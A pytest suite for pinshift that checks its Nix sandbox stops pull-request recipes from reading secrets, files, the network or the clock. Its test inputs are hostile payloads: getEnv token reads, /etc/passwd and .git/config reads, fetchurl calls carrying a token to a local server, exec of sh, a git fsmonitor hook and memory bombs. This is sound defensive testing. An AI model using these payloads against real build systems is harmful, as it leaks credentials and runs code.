"""A recipe from a pull request cannot read, fetch, run, forge or exhaust anything (issue 39, issue 45 item 3).

Through the real CLI (`pinshift diff`, `migrate --dry-run`, `verify --eval`) on real repositories, evaluated by the
real nix-instantiate in pinshift's NixSandbox: each class of attack (the environment, files outside the tree, the
network, running a program, forging results, the clock, memory) under several spellings, and what must never come
out in any output format.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import threading
from pathlib import Path

import pytest

from build_repos import PKGS, commit
from conftest import FIXTURES, git, require_nix
from pinshift.demo.matrix import Variant, render_recipe

TOKEN = "ghp_secret123"
PASSWD_LINE = "root:x:0:0"


@pytest.fixture
def attack(make_repo, monkeypatch):
    """A repository whose `main` holds `{ x = 1; }` and whose `target` holds the given files; TOKEN is set in the
    environment pinshift runs in."""
    require_nix()
    monkeypatch.setenv("TOKEN", TOKEN)
    monkeypatch.setenv("SECRET_TOKEN", TOKEN)

    def make(files: dict[str, str | bytes]) -> Path:
        root = make_repo({f"{PKGS}/a.nix": "{ x = 1; }\n"})
        commit(root, files, "target", branch="target")
        git(root, "checkout", "-q", "main")
        return root

    return make


def every_format(run_cli, root: Path) -> dict[str, object]:
    """The text, Markdown and JSON reports of `diff main target` (their results: exit code and output)."""
    found = {}
    for fmt in ("text", "markdown", "json"):
        found[fmt] = run_cli("diff", "main", "target", "--repo", str(root), "--format", fmt, "--verbose")
    return found


def assert_never_shown(results: dict, *secrets: str) -> None:
    for fmt, result in results.items():
        for secret in secrets:
            assert secret not in result.output, (fmt, result)


def recipe_of(results: dict, path: str = f"{PKGS}/a.nix") -> dict:
    data = json.loads(results["json"].stdout)
    return next(r for r in data["recipes"] if r["path"] == path)


# --- the environment --------------------------------------------------------------------------------------------

ENV_SPELLINGS = [
    '__getEnv "TOKEN"',
    'builtins.builtins.getEnv "TOKEN"',
    '(builtins.getAttr "getEnv" builtins) "TOKEN"',
    'builtins.builtins.builtins.getEnv "TOKEN"',
    '(builtins.getAttr "getEnv" builtins.builtins) "TOKEN"',
    '(builtins.getAttr "__getEnv" (builtins.listToAttrs [])) or __getEnv "TOKEN"',
]


@pytest.mark.parametrize("spelling", ENV_SPELLINGS)
def test_no_spelling_of_getenv_reads_the_environment(attack, run_cli, spelling):
    root = attack({f"{PKGS}/a.nix": f"{{ x = {spelling}; }}\n"})
    results = every_format(run_cli, root)
    assert_never_shown(results, TOKEN)
    assert recipe_of(results)["status"] in ("changed", "broken")


@pytest.mark.parametrize("spelling", ENV_SPELLINGS[:3])
def test_a_throw_with_the_environment_in_it_shows_no_value(attack, run_cli, spelling):
    root = attack({f"{PKGS}/a.nix": f'{{ x = throw "leak=${{{spelling}}}"; }}\n'})
    results = every_format(run_cli, root)
    assert_never_shown(results, TOKEN)
    assert recipe_of(results)["status"] == "broken"
    assert "leak=" in results["text"].stdout  # the message is shown, without the value
    assert results["text"].exit_code == 1


# --- files outside the tree -------------------------------------------------------------------------------------


@pytest.mark.parametrize("spelling", ["__readFile /etc/passwd", "builtins.builtins.readFile /etc/passwd",
                                      '(builtins.getAttr "readFile" builtins) "/etc/passwd"',
                                      "import /etc/passwd", 'builtins.readFile (./. + "/../../../../../../../etc/passwd")',
                                      'builtins.hashFile "sha256" /etc/passwd',
                                      'builtins.attrNames (builtins.readDir /etc)'])
def test_files_outside_the_tree_cannot_be_read(attack, run_cli, spelling):
    root = attack({f"{PKGS}/a.nix": f"{{ x = {spelling}; }}\n"})
    results = every_format(run_cli, root)
    assert_never_shown(results, PASSWD_LINE, "passwd\"", "shadow")
    found = recipe_of(results)
    assert found["status"] == "broken"
    assert "forbidden in restricted mode" in results["text"].stdout
    assert results["text"].exit_code == 1


def test_the_repositorys_git_config_cannot_be_read(attack, run_cli):
    """Where actions/checkout keeps its `http.extraheader` token, reached through $PWD or a path above the tree."""
    root = attack({f"{PKGS}/a.nix": '{ x = __readFile "${__getEnv "PWD"}/.git/config"; }\n',
                   f"{PKGS}/b.nix": "{ x = builtins.readFile ../../.git/config; }\n"})
    git(root, "config", "http.extraheader", f"AUTHORIZATION: basic {TOKEN}")
    results = every_format(run_cli, root)
    assert_never_shown(results, TOKEN, "extraheader", "[core]")
    assert recipe_of(results)["status"] == "broken"
    assert "No such file" in recipe_of(results, f"{PKGS}/b.nix")["error"]  # a snapshot holds no .git


# --- the network ------------------------------------------------------------------------------------------------


@pytest.fixture
def server():
    """A real HTTP server on 127.0.0.1 that records every request it receives."""
    received = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            received.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"data")

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_address[1], received
    httpd.shutdown()
    httpd.server_close()


@pytest.mark.parametrize("spelling", [
    '__fetchurl "http://127.0.0.1:{port}/?t=${{__getEnv "TOKEN"}}"',
    'builtins.builtins.fetchTarball "http://127.0.0.1:{port}/x.tar.gz"',
    'builtins.builtins.fetchurl {{ url = "http://127.0.0.1:{port}/y"; }}',
    '(builtins.getAttr "fetchTree" builtins) {{ type = "tarball"; url = "http://127.0.0.1:{port}/z"; }}',
    'import (builtins.fetchTarball "http://127.0.0.1:{port}/nixpkgs/archive/abc.tar.gz") {{}}',
])
def test_nothing_reaches_the_network(attack, run_cli, server, spelling):
    port, received = server
    text = spelling.format(port=port)
    root = attack({f"{PKGS}/a.nix": f"{{ x = builtins.toJSON ({text}); }}\n"})
    results = every_format(run_cli, root)
    assert received == []
    assert_never_shown(results, TOKEN)


def test_the_real_fetchers_are_refused_by_nix_itself(tmp_path, server):
    """Below the stand-in: the sandbox's own options refuse a URI and a file outside the roots."""
    from pinshift.sandbox.nix_process import NixSandbox, eval_command

    nix = require_nix()
    port, received = server
    with NixSandbox() as sandbox:
        fetch = sandbox.run(eval_command(nix, [tmp_path], f'builtins.fetchurl "http://127.0.0.1:{port}/x"'))
        local = sandbox.run(eval_command(nix, [tmp_path], 'builtins.fetchurl "file:///etc/hostname"'))
        env = sandbox.run(eval_command(nix, [tmp_path], 'builtins.getEnv "PATH"'))
    assert fetch.status != 0 and "forbidden in restricted mode" in fetch.stderr
    assert local.status != 0 and "forbidden in restricted mode" in local.stderr
    assert env.status == 0 and env.stdout == b'""'
    assert received == []


# --- running a program ------------------------------------------------------------------------------------------


def test_exec_is_off_whatever_the_users_nix_conf_says(attack, run_cli, tmp_path, monkeypatch):
    conf = tmp_path / "conf"
    conf.mkdir()
    (conf / "nix.conf").write_text("allow-unsafe-native-code-during-evaluation = true\n")
    monkeypatch.setenv("NIX_CONF_DIR", str(conf))
    monkeypatch.setenv("NIX_USER_CONF_FILES", str(conf / "nix.conf"))
    monkeypatch.setenv("NIX_CONFIG", "allow-unsafe-native-code-during-evaluation = true")
    marker = tmp_path / "ran"
    root = attack({f"{PKGS}/a.nix": f'{{ x = builtins.builtins.exec [ "sh" "-c" "touch {marker}" ]; }}\n',
                   f"{PKGS}/b.nix": f'{{ x = __exec [ "/bin/sh" "-c" "touch {marker}" ]; }}\n'})
    results = every_format(run_cli, root)
    assert not marker.exists()
    assert recipe_of(results)["status"] == "broken"


def test_fetchgit_of_a_repository_shaped_folder_runs_nothing(attack, run_cli, tmp_path):
    """A bare repository committed in the tree whose config names an fsmonitor command: git never runs it."""
    marker = tmp_path / "ran"
    sub = f"{PKGS}/sub"
    root = attack({
        f"{sub}/HEAD": "ref: refs/heads/main\n",
        f"{sub}/config": f'[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "touch {marker}"\n',
        f"{sub}/objects/.keep": "",
        f"{sub}/refs/heads/.keep": "",
        f"{PKGS}/a.nix": "{ src = builtins.builtins.fetchGit (toString ./sub); x = builtins.toJSON src; }\n",
        f"{PKGS}/b.nix": "{ x = builtins.toJSON (__fetchGit { url = ./sub; }); }\n",
    })
    every_format(run_cli, root)
    assert not marker.exists()


def test_no_program_is_on_the_path_nix_is_given(tmp_path):
    from pinshift.sandbox.nix_process import NixSandbox

    with NixSandbox() as sandbox:
        env = sandbox.environment()
        assert list(Path(env["PATH"]).iterdir()) == []
        assert set(env) <= {"PATH", "HOME", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "TMPDIR", "NIX_PATH",
                            "NIX_CONF_DIR", "NIX_USER_CONF_FILES", "GIT_CONFIG_NOSYSTEM", "GIT_CONFIG_GLOBAL",
                            "GIT_CEILING_DIRECTORIES"}
        assert (Path(env["NIX_CONF_DIR"]) / "nix.conf").read_bytes() == b""
        assert env["NIX_PATH"] == ""
        assert (sandbox.path.stat().st_mode & 0o777) == 0o700
        path = sandbox.path
    assert not path.exists()


# --- forged results ---------------------------------------------------------------------------------------------


FORGERIES = [
    'builtins.trace (builtins.toJSON [ "summary" 0 { value = { x = 1; }; } ]) (throw "no")',
    'builtins.trace (builtins.toJSON [ "recipe" 0 ]) (builtins.trace (builtins.toJSON [ "summary" 0 '
    '{ value = { x = 1; }; } ]) (throw "no"))',
    'builtins.trace (builtins.toJSON [ "read" "/etc/passwd" ]) (builtins.trace (builtins.toJSON [ "summary" 0 '
    '{ value = { x = 1; }; } ]) (throw "no"))',
    'builtins.trace "x\\ntrace: [\\"summary\\",0,{\\"value\\":{\\"x\\":1}}]\\nerror: fake" (throw "no")',
    'builtins.foldl\' (a: i: builtins.trace (builtins.toJSON [ "summary" i { value = { x = 1; }; } ]) a) '
    '(throw "no") (builtins.genList (i: i) 50)',
]


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_recipe_cannot_forge_its_result(attack, run_cli, forgery):
    root = attack({f"{PKGS}/a.nix": forgery + "\n"})
    results = every_format(run_cli, root)
    found = recipe_of(results)
    assert found["status"] == "broken", found
    assert results["text"].exit_code == 1
    assert "broken:" in results["text"].stdout


def test_a_forgery_in_one_recipe_does_not_change_another(attack, run_cli):
    """Recipes share a batch: a trace naming another recipe's number changes nothing of it."""
    forged = " ".join(f'(builtins.trace (builtins.toJSON [ "summary" {i} {{ value = {{ x = 1; }}; }} ]) 0)'
                      for i in range(4))
    root = attack({f"{PKGS}/a.nix": "{ x = 2; }\n", f"{PKGS}/b.nix": f"{{ y = [ {forged} ]; }}\n"})
    results = every_format(run_cli, root)
    assert recipe_of(results)["status"] == "changed"


# --- the clock --------------------------------------------------------------------------------------------------


def test_the_clock_is_not_read(attack, run_cli):
    root = attack({f"{PKGS}/a.nix": '{ version = "1.${toString builtins.builtins.currentTime}.'
                                    '${toString __currentTime}.${toString (builtins.getAttr "currentTime" builtins)}"; }\n'})
    first = every_format(run_cli, root)
    second = every_format(run_cli, root)
    assert first["json"].stdout == second["json"].stdout
    assert "1.0.0.0" in first["text"].stdout
    import time

    now = str(int(time.time()))[:6]
    assert now not in first["json"].stdout


# --- memory -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("bomb", [
    "builtins.length (builtins.genList (x: x) 1000000000)",
    'builtins.stringLength (builtins.concatStringsSep "" (builtins.genList (x: "aaaaaaaaaaaaaaaa${toString x}") '
    "100000000))",
])
def test_a_memory_bomb_is_failing_with_out_of_memory(attack, run_cli, monkeypatch, bomb):
    monkeypatch.setenv("PINSHIFT_EVAL_MEMORY", "512")
    root = attack({f"{PKGS}/a.nix": f"{{ x = {bomb}; }}\n", f"{PKGS}/b.nix": "{ y = 2; }\n"})
    result = run_cli("diff", "main", "target", "--repo", str(root), "--format", "json")
    data = json.loads(result.stdout)
    found = next(r for r in data["recipes"] if r["path"] == f"{PKGS}/a.nix")
    assert found["status"] == "broken"
    assert found["error"].startswith("out of memory (the limit is 512 MiB; $PINSHIFT_EVAL_MEMORY sets it)")
    assert next(r for r in data["recipes"] if r["path"] == f"{PKGS}/b.nix")["status"] == "added"


@pytest.mark.parametrize("value, expected", [("", 2048), ("300", 300), ("0", 2048), ("-5", 2048), ("lots", 2048),
                                             ("1.5", 2048), (" 64 ", 64)])
def test_the_memory_limit_is_configured_by_its_variable(monkeypatch, value, expected):
    from pinshift.sandbox.nix_process import configured_memory

    monkeypatch.setenv("PINSHIFT_EVAL_MEMORY", value)
    assert configured_memory() == expected


# --- migrate's build check --------------------------------------------------------------------------------------


RENAME = """name = "check"
description = "a test recipe"
files = [".flox/pkgs/**/*.nix"]

[[steps]]
kind = "rename-attr"
title = "Use python313Packages"
[steps.params]
from = "python3Packages"
to = "python313Packages"
base = "nixpkgs_pinned"
"""


@pytest.mark.parametrize("spelling", ENV_SPELLINGS[:3] + ['__readFile "/etc/passwd"'])
def test_migrates_report_shows_no_value_a_recipe_read(make_repo, run_cli, tmp_path, monkeypatch, spelling):
    require_nix()
    monkeypatch.setenv("TOKEN", TOKEN)
    recipe = tmp_path / "recipe.toml"
    recipe.write_text(RENAME)
    root = make_repo({f"{PKGS}/a.nix": "let nixpkgs_pinned = import <nixpkgs> { }; in\n"
                                       "{ p = nixpkgs_pinned.python3Packages.torch; "
                                       f'v = throw "leak=${{{spelling}}}"; }}\n'})
    for fmt in ("markdown", "json", "text"):
        result = run_cli("migrate", str(recipe), "--repo", str(root), "--from", "main", "--branch", "next",
                         "--dry-run", "--format", fmt, "--verbose")
        assert TOKEN not in result.output and PASSWD_LINE not in result.output, result
        assert "leak=" in result.output  # the throw's message is in the report: the value is not


# --- verify --eval ----------------------------------------------------------------------------------------------


@pytest.fixture
def stub_nixpkgs(tmp_path):
    """The stub nixpkgs of tests/test_verify.py (its first revision) as a git clone: (directory, revision)."""
    root = tmp_path / "nixpkgs"
    shutil.copytree(FIXTURES / "checks" / "stub-nixpkgs" / "first", root)
    git(root, "init", "-q", "-b", "master")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "first")
    return root, git(root, "rev-parse", "HEAD").strip()


def verify_eval(run_cli, tmp_path, stub_nixpkgs, version: str | None):
    """`verify --eval` of a seed recipe whose version is `version` (Nix text; None: the recipe as it is)."""
    clone, rev = stub_nixpkgs
    variant = Variant("cpu", "avx2")
    text = render_recipe(variant, rev)
    if version is not None:
        text = text.replace(f'pname = "{variant.pname}";', f'pname = "{variant.pname}"; version = {version};')
    recipe = tmp_path / "tree" / variant.filename
    recipe.parent.mkdir(parents=True, exist_ok=True)
    recipe.write_text(text)
    result = run_cli("verify", str(recipe), "--nixpkgs", str(clone), "--eval", "--format", "json")
    return result, json.loads(result.stdout)


def test_verify_eval_evaluates_in_the_sandbox(run_cli, tmp_path, stub_nixpkgs):
    require_nix()
    result, report = verify_eval(run_cli, tmp_path, stub_nixpkgs, None)
    assert list(report["evaluations"].values()) == [{"pname": "pytorch-python313-cpu-avx2", "version": "2.9.1"}], result


def test_verify_eval_reads_no_environment_and_no_file_outside(run_cli, tmp_path, stub_nixpkgs, monkeypatch):
    require_nix()
    monkeypatch.setenv("SECRET_TOKEN", TOKEN)
    hostname = Path("/etc/hostname").read_text().strip()
    result, report = verify_eval(run_cli, tmp_path, stub_nixpkgs,
                                 'builtins.getEnv "SECRET_TOKEN" + builtins.readFile /etc/hostname')
    assert TOKEN not in result.output
    assert hostname not in result.output.replace(str(tmp_path), "")
    assert report["evaluations"] == {}
    assert "access to absolute path '/etc/hostname' is forbidden in restricted mode" in result.output
    alone, report = verify_eval(run_cli, tmp_path / "b", stub_nixpkgs, 'builtins.getEnv "SECRET_TOKEN"')
    assert list(report["evaluations"].values()) == [{"pname": "pytorch-python313-cpu-avx2", "version": ""}]


def test_verify_eval_reads_no_other_file_of_the_repository(run_cli, tmp_path, stub_nixpkgs):
    """Only the verified files and the exported nixpkgs are readable: not a sibling, not `.git/config`."""
    require_nix()
    (tmp_path / "tree" / ".git").mkdir(parents=True)
    (tmp_path / "tree" / "secret.txt").write_text(TOKEN)
    (tmp_path / "tree" / ".git" / "config").write_text(f"[http]\n\textraheader = {TOKEN}\n")
    for version in ("builtins.readFile ./secret.txt", "builtins.readFile ./.git/config"):
        result, report = verify_eval(run_cli, tmp_path, stub_nixpkgs, version)
        assert TOKEN not in result.output
        assert report["evaluations"] == {}
        # not given to verify: absent from the folder Nix may read (the verified bytes, written apart)
        assert "No such file or directory" in result.output, result


def test_verify_eval_reads_the_companions_verified_with_it(run_cli, tmp_path, stub_nixpkgs):
    """The files verified together are readable to each other (a recipe importing its companion evaluates), as the
    bytes pinshift read: a file not given to verify is not, even beside them."""
    require_nix()
    clone, rev = stub_nixpkgs
    variant = Variant("cpu", "avx2")
    text = render_recipe(variant, rev).replace(
        f'pname = "{variant.pname}";', f'pname = "{variant.pname}"; version = (import ./companion.nix).version;')
    folder = tmp_path / "tree" / ".flox" / "pkgs"
    folder.mkdir(parents=True)
    (folder / variant.filename).write_text(text)
    (folder / "companion.nix").write_text('{ version = "9.9.9"; }\n')
    (tmp_path / "tree" / "secret.txt").write_text(TOKEN)
    result = run_cli("verify", str(folder), "--nixpkgs", str(clone), "--eval", "--format", "json")
    report = json.loads(result.stdout)
    assert list(report["evaluations"].values()) == [{"pname": variant.pname, "version": "9.9.9"}], result
    (folder / "companion.nix").write_text(f'{{ version = builtins.readFile {tmp_path / "tree" / "secret.txt"}; }}\n')
    result = run_cli("verify", str(folder), "--nixpkgs", str(clone), "--eval", "--format", "json")
    assert TOKEN not in result.output
    assert "forbidden in restricted mode" in result.output
    assert json.loads(result.stdout)["evaluations"] == {}
    # the verified files alone: the same recipe given without its companion does not reach it on disk
    result = run_cli("verify", str(folder / variant.filename), "--nixpkgs", str(clone), "--eval", "--format", "json")
    assert json.loads(result.stdout)["evaluations"] == {}
    assert "companion.nix" in result.output


@pytest.mark.parametrize("version, message", [
    ('builtins.fetchurl "file:///etc/hostname"', "access to absolute path '/etc/hostname' is forbidden"),
    ("toString (builtins.length (builtins.genList (x: x) 1000000000))",
     "out of memory (the limit is 512 MiB; $PINSHIFT_EVAL_MEMORY sets it)"),
])
def test_verify_eval_fetches_nothing_and_is_bounded(run_cli, tmp_path, stub_nixpkgs, monkeypatch, version, message):
    require_nix()
    monkeypatch.setenv("PINSHIFT_EVAL_MEMORY", "512")
    result, report = verify_eval(run_cli, tmp_path, stub_nixpkgs, version)
    assert message in result.output, result
    assert report["evaluations"] == {}


# --- the stand-in's shadow, and the cache -----------------------------------------------------------------------


def test_every_spelling_of_a_builtin_is_the_stand_ins(tmp_path):
    """`builtins.builtins` is the shadowed set, `__name` is its `name`: a read through any spelling is traced (the
    stand-in's readFile), a fetch is recorded (the stand-in's fetchurl), the clock and the search path are empty."""
    from pinshift.evaluation.build_diff import evaluate_snapshots
    from pinshift.evaluation.snapshots import Scratch, Snapshot
    from pinshift.evaluation.summary_memo import SummaryMemo
    from pinshift.planning.memo import blob_id

    nix = require_nix()
    files = {"d.txt": "data", "e.txt": "more", "f.txt": "third",
             "r.nix": '{ a = __readFile ./d.txt; b = builtins.builtins.readFile ./e.txt; '
                      'c = (builtins.getAttr "readFile" builtins.builtins) ./f.txt; '
                      't = [ __currentTime builtins.builtins.currentTime (builtins.getAttr "currentTime" builtins) ]; '
                      'u = builtins.isAttrs (__fetchurl "http://127.0.0.1:9/x"); n = [ __nixPath builtins.nixPath ]; '
                      's = builtins.builtins ? builtins && __builtins ? getEnv; }\n'}
    root = tmp_path / "tree"
    root.mkdir()
    for path, text in files.items():
        (root / path).write_text(text)
    snapshot = Snapshot("tree", root, {path: blob_id(text.encode()) for path, text in files.items()})
    with Scratch() as scratch:
        found = evaluate_snapshots(nix, SummaryMemo(None), scratch, [(snapshot, ["r.nix"])])
    evaluation = found[("tree", "r.nix")]
    assert evaluation.error is None, evaluation.error
    assert evaluation.summary["value"] == {"a": "data", "b": "more", "c": "third", "t": [0, 0, 0], "u": True,
                                           "n": [[], []], "s": True}
    assert sorted(evaluation.reads) == ["d.txt", "e.txt", "f.txt", "r.nix"]


def test_the_cache_remembers_no_value_from_the_environment(attack, run_cli, monkeypatch):
    monkeypatch.setenv("PINSHIFT_CACHE", "on")
    root = attack({f"{PKGS}/a.nix": '{ x = builtins.builtins.getEnv "TOKEN"; y = __getEnv "HOME"; }\n'})
    first = run_cli("diff", "main", "target", "--repo", str(root), "--format", "json")
    monkeypatch.setenv("TOKEN", "ghp_other456")
    second = run_cli("diff", "main", "target", "--repo", str(root), "--format", "json")
    assert json.loads(first.stdout)["recipes"] == json.loads(second.stdout)["recipes"]
    assert json.loads(second.stdout)["evaluation"]["remembered"] == 2  # remembered: the same, with no value in it
    assert TOKEN not in first.output and "ghp_other456" not in second.output and os.environ["HOME"] not in first.stdout
